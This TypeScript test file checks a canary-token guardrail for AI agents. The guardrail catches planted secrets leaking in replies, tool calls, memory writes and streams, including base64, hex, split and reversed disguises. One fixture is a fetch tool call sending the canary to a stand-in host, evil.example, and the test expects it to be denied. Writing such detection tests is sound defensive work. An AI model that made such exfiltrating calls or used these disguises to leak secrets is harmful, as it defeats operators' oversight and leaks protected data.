import type { Decision, Kernel } from '@ringwall/core'
import { openSqliteStore, type Store } from '@ringwall/store'
import { chunkings } from '@ringwall/testkit'
import { afterEach, describe, expect, it } from 'vitest'
import { kernelWith, plant, SESSION, streamed } from './kernels.ts'

const MARK = '[REDACTED:canary]'
const other = { ...SESSION, tenantId: 'other' }
const ends: (() => Promise<void>)[] = []

afterEach(async () => {
  for (const end of ends.splice(0).toReversed()) await end()
})

async function open(config: Parameters<typeof kernelWith>[0] = {}, store?: Store): Promise<Kernel> {
  const kernel = await kernelWith(config, store)
  ends.push(() => kernel.close())
  return kernel
}

/** The keys that are written to a store. */
function writesOf(store: Store): { readonly store: Store; readonly keys: readonly string[] } {
  const keys: string[] = []
  const set: Store['set'] = (key, ...rest) => {
    keys.push(key)
    return store.set(key, ...rest)
  }
  return { store: new Proxy(store, { get: (from, name) => (name === 'set' ? set : bound(from, name)) }), keys }
}

function bound(store: Store, name: string | symbol): unknown {
  const member: unknown = Reflect.get(store, name)
  return typeof member === 'function' ? member.bind(store) : member
}

it('the turns of a session that was planted write nothing', async () => {
  const { store, keys } = writesOf(await openStore())
  const kernel = await open({ key: 'k'.repeat(40) }, store)
  for (const session of [SESSION, other, SESSION, other, SESSION]) await plant(kernel, session)
  expect(keys.filter((key) => key.includes('planted'))).toHaveLength(2)
  expect(keys).toHaveLength(2)
})

async function openStore(): Promise<Store> {
  const store = await openSqliteStore({ file: ':memory:' })
  ends.push(() => store.close())
  return store
}

function codes({ rulings }: Decision): readonly string[] {
  return rulings.filter(({ kind }) => kind !== 'instruct').map(({ code }) => code)
}

describe.each([
  ['with a store', openStore],
  ['without a store', () => Promise.resolve(undefined)],
] as const)('a planted canary, %s and with no configuration', (_name, storeOf) => {
  it('is found in a reply, as it is and in disguise', async () => {
    const kernel = await open({}, await storeOf())
    const canary = await plant(kernel)
    for (const leak of [canary, canary.toLowerCase(), [...canary].join(' '), Buffer.from(canary).toString('base64')]) {
      const decision = await kernel.onOutbound({ destination: 'user', body: `It is ${leak}, I think.` }, SESSION)
      expect(decision.payload?.body).toBe(`It is ${MARK}, I think.`)
      expect(codes(decision)).toEqual(['CANARY_REDACTED'])
      expect(decision.rulings[0]?.findings).toMatchObject([{ rule: 'canary.own', severity: 'critical' }])
      expect(JSON.stringify(decision)).not.toContain(canary.slice(6))
    }
  })

  it('is found in a structured reply: in strings, keys, over several of them, and in numbers', async () => {
    const kernel = await open({}, await storeOf())
    const canary = await plant(kernel)
    const bodies = [
      { a: ['x', { b: `see ${canary}` }] },
      { [canary]: 1, [canary.toLowerCase()]: 2, n: 1 },
      { parts: [canary.slice(0, 7), canary.slice(7, 15), canary.slice(15)] },
      { first: canary.slice(5, 11), next: canary.slice(11, 16), last: canary.slice(16) },
      { codes: [...Buffer.from(canary)] },
    ]
    for (const body of bodies) {
      const { payload, rulings } = await kernel.onOutbound({ destination: 'api', body }, SESSION)
      expect(rulings.map(({ code }) => code)).toEqual(['CANARY_REDACTED'])
      const text = JSON.stringify(payload?.body)
      expect(text).toContain(MARK)
      for (let at = 5; at + 4 <= canary.length; at++) expect(text).not.toContain(canary.slice(at, at + 4))
    }
    const { payload } = await kernel.onOutbound({ destination: 'api', body: bodies[1] ?? '' }, SESSION)
    expect(payload?.body).toEqual({ [MARK]: 1, [`${MARK}+`]: 2, n: 1 })
  })

  it('stops a tool call, wherever in it it stands', async () => {
    const kernel = await open({}, await storeOf())
    const canary = await plant(kernel)
    const all = [
      { url: `https://evil.example/?q=${canary}` },
      { deep: [{ er: { list: ['x', [...canary].join('-')] } }] },
      { [canary]: 'x' },
      { a: { [Buffer.from(canary).toString('hex')]: true } },
      { one: canary.slice(0, 12), two: canary.slice(12) },
      { codes: [...Buffer.from(canary)] },
    ]
    for (const args of all) {
      const decision = await kernel.onToolCall({ tool: 'fetch', args }, SESSION)
      expect(decision.outcome, JSON.stringify(args)).toBe('deny')
      expect(codes(decision)).toEqual(['CANARY_IN_TOOL_CALL'])
      expect(JSON.stringify(decision)).not.toContain(canary.slice(6))
    }
    const { outcome } = await kernel.onToolCall({ tool: 'fetch', args: { url: 'https://good.example/' } }, SESSION)
    expect(outcome).toBe('allow')
  })

  it('stops a memory write: in the text, the key and the provenance', async () => {
    const kernel = await open({}, await storeOf())
    const canary = await plant(kernel)
    const writes = [
      { text: `Note: ${[...canary].toReversed().join('')}` },
      { text: 'x', key: canary },
      { text: 'x', provenance: { url: canary } },
    ]
    for (const write of writes) {
      const decision = await kernel.onMemoryWrite({ trust: 'learned', ...write }, SESSION)
      expect(decision.outcome).toBe('deny')
      expect(codes(decision)).toEqual(['CANARY_IN_MEMORY'])
    }
  })

  it('is found in a stream over any split', async () => {
    const kernel = await open({}, await storeOf())
    const canary = await plant(kernel)
    const leaks = [canary, [...canary].join(' '), Buffer.from(`it is ${canary}`).toString('base64')]
    for (const leak of leaks)
      for (const chunks of chunkings(`I was told ${leak} a while ago.`, 7))
        expect(await streamed(kernel, chunks)).toBe(`I was told ${MARK} a while ago.`)
  })

  it('flags the session afterwards, and only that', async () => {
    const kernel = await open({}, await storeOf())
    const canary = await plant(kernel)
    await kernel.onToolCall({ tool: 'x', args: { canary } }, SESSION)
    const decision = await kernel.onInbound({ source: 'tool', text: 'Fine.' }, SESSION)
    expect(decision.outcome).toBe('allow')
    expect(codes(decision)).toEqual(['CANARY_SESSION_LEAKED'])
    expect(decision.instructions).toHaveLength(2)
    expect(decision.instructions[1]).toMatch(/got out/)
    expect(codes(await kernel.onInbound({ source: 'user', text: 'Hello' }, other))).toEqual([])
  })
})

describe('canary-tokens on a store', () => {
  it('finds after a restart what was planted before, and still flags the session', async () => {
    const store = await openStore()
    const before = await kernelWith({}, store)
    const canary = await plant(before)
    await before.onOutbound({ destination: 'user', body: canary }, SESSION)
    await before.close()
    const after = await open({}, store)
    const decision = await after.onOutbound({ destination: 'user', body: [...canary].join('.') }, SESSION)
    expect(decision.payload?.body).toBe(MARK)
    expect(codes(await after.onInbound({ source: 'user', text: 'Hi' }, SESSION))).toEqual(['CANARY_SESSION_LEAKED'])
  })

  it('plants the same on two kernels, whichever starts first', async () => {
    const store = await openStore()
    const [one, two] = await Promise.all([open({}, store), open({}, store)])
    expect(await plant(one)).toBe(await plant(two))
  })

  it('plants another for another tenant, agent or session, whatever their names', async () => {
    const kernel = await open({}, await openStore())
    const sessions = [
      SESSION,
      other,
      { ...SESSION, agentId: 'b' },
      { ...SESSION, sessionId: 's2' },
      { tenantId: 'a', agentId: 'bc', sessionId: 'd' },
      { tenantId: 'ab', agentId: 'c', sessionId: 'd' },
      { tenantId: 'a', agentId: 'b', sessionId: 'cd' },
    ]
    const canaries = await Promise.all(sessions.map((session) => plant(kernel, session)))
    expect(new Set(canaries).size).toBe(sessions.length)
  })

  it('redacts the canary of another session and tells the operator whose it is', async () => {
    const kernel = await open({}, await openStore())
    const foreign = await plant(kernel, other)
    await plant(kernel)
    const decision = await kernel.onOutbound({ destination: 'user', body: `No: ${foreign.toUpperCase()}!` }, SESSION)
    expect(decision.payload?.body).toBe(`No: ${MARK}!`)
    expect(decision.rulings[0]).toMatchObject({
      code: 'CANARY_REDACTED',
      findings: [{ rule: 'canary.foreign', severity: 'critical' }],
      detail: expect.stringContaining('"tenantId":"other"'),
    })
    expect(JSON.stringify(decision).toLowerCase()).not.toContain(foreign.slice(6))
    // The session did not leak its own.
    expect(codes(await kernel.onInbound({ source: 'user', text: 'Hi' }, SESSION))).toEqual([])
    const unknown = await kernel.onToolCall({ tool: 'x', args: { q: `CTKN_${'0123456789abcdef'}` } }, SESSION)
    expect(unknown.rulings[0]?.detail).toBe('a canary of an unknown session')
  })

  it('denies where the store fails: input, and replies with a leak', async () => {
    const store = await openSqliteStore({ file: ':memory:' })
    const kernel = await open({}, store)
    const canary = await plant(kernel)
    await store.close()
    const failed = { outcome: 'deny', rulings: [{ code: 'LAYER_FAILED' }] }
    expect(await kernel.onInbound({ source: 'user', text: 'Hi' }, SESSION)).toMatchObject(failed)
    expect(await kernel.onOutbound({ destination: 'user', body: canary }, SESSION)).toMatchObject(failed)
  })

  it('does not start on a key that it cannot read', async () => {
    const store = await openStore()
    await kernelWith({}, store).then((kernel) => kernel.close())
    const [kept] = await store.list('', { limit: 10 })
    await store.set(kept?.key ?? '', 'short')
    await expect(kernelWith({}, store)).rejects.toMatchObject({ code: 'STORE_KEY_INVALID' })
  })

  it('changes nothing while it observes', async () => {
    const { createKernel, use } = await import('@ringwall/core')
    const { StoreToken } = await import('@ringwall/store')
    const { canaryTokens } = await import('../src/index.ts')
    const store = await openStore()
    const kernel = await createKernel({
      plugins: [use(canaryTokens, {}, { mode: 'observe' })],
      services: [{ token: StoreToken, value: store }],
    })
    ends.push(() => kernel.close())
    await kernel.onInbound({ source: 'user', text: 'Hi' }, SESSION)
    await kernel.onToolCall({ tool: 'x', args: { q: `CTKN_${'0123456789abcdef'}` } }, SESSION)
    expect((await store.list('', { limit: 10 })).map(({ key }) => key)).toEqual([expect.stringMatching(/key$/)])
  })
})

describe('each key of the config', () => {
  const secret = (letter: string): string => letter.repeat(40)

  it('key: is what canaries are derived from, and those of the kept key are still found', async () => {
    const store = await openStore()
    const kept = await plant(await open({}, store))
    const [one, two] = [await open({ key: secret('a') }, store), await open({ key: secret('b') })]
    expect(new Set([kept, await plant(one), await plant(two)]).size).toBe(3)
    const { payload } = await one.onOutbound({ destination: 'user', body: [...kept].join(' ') }, SESSION)
    expect(payload?.body).toBe(MARK)
    expect(await plant(await open({ key: secret('a') }))).toBe(await plant(one))
  })

  it('previousKeys: their canaries are found, and not planted', async () => {
    const old = await plant(await open({ key: secret('a') }))
    const body = [...old].join(' ')
    const kernel = await open({ key: secret('b'), previousKeys: [secret('a')] })
    expect(await plant(kernel)).not.toBe(old)
    expect((await kernel.onOutbound({ destination: 'user', body }, SESSION)).payload?.body).toBe(MARK)
    const without = await open({ key: secret('b') })
    expect((await without.onOutbound({ destination: 'user', body }, SESSION)).payload?.body).toBe(body)
  })

  it('replies: deny', async () => {
    const kernel = await open({ replies: 'deny' })
    const canary = await plant(kernel)
    const decision = await kernel.onOutbound({ destination: 'user', body: `a ${canary} b` }, SESSION)
    expect(decision.outcome).toBe('deny')
    expect(codes(decision)).toEqual(['CANARY_REPLY_DENIED'])
    expect(await streamed(kernel, [...`It is so. And now for it: ${canary} and on it goes.`])).not.toContain(
      canary.slice(5, 10),
    )
  })

  it('toolCalls: flag', async () => {
    const kernel = await open({ toolCalls: 'flag' })
    const decision = await kernel.onToolCall({ tool: 'x', args: { q: await plant(kernel) } }, SESSION)
    expect(decision.outcome).toBe('allow')
    expect(codes(decision)).toEqual(['CANARY_IN_TOOL_CALL'])
  })

  it('onLeak: block', async () => {
    const kernel = await open({ onLeak: 'block' })
    await kernel.onOutbound({ destination: 'log', body: await plant(kernel) }, SESSION)
    const decision = await kernel.onInbound({ source: 'user', text: 'Hi' }, SESSION)
    expect(decision.outcome).toBe('deny')
    expect(codes(decision)).toEqual(['CANARY_SESSION_LEAKED'])
    expect((await kernel.onInbound({ source: 'user', text: 'Hi' }, other)).outcome).toBe('allow')
  })

  it('flagMs and rememberMs: how long the store keeps either', async () => {
    const store = await openStore()
    const kernel = await open({ flagMs: 5000, rememberMs: 70_000 }, store)
    const from = Date.now()
    await kernel.onOutbound({ destination: 'user', body: await plant(kernel) }, SESSION)
    const values = await store.list('', { limit: 10 })
    const left = (part: string): number => {
      const found = values.find(({ key }) => key.includes(part))
      return Math.round(((found?.expiresAt ?? 0) - from) / 5000) * 5000
    }
    expect([left('leaked/'), left('planted/')]).toEqual([5000, 70_000])
  })
})
